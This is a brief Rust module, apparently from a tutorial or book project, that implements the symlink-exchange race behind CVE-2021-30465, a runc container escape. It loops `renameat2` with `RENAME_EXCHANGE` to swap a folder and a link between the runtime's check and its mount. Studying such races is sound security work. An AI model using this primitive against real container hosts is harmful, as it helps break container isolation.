//! CVE-2021-30465: a folder that turns into a link between the runner's look and its mount.

use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};

use crate::told;

// ANCHOR: attack
/// renameat2(2) exchanges two names in one step. One is a folder, the other a link to somewhere else: whoever looks
/// first and acts later sees now this, now that.
pub fn swap(words: &[String]) -> Result<String, String> {
    let [one, other] = words else { return Err("ONE OTHER are needed".into()) };
    println!("ready");
    loop {
        told(
            "renameat2",
            renameat2(AT_FDCWD, one.as_str(), AT_FDCWD, other.as_str(), RenameFlags::RENAME_EXCHANGE),
        )?;
    }
}
// ANCHOR_END: attack
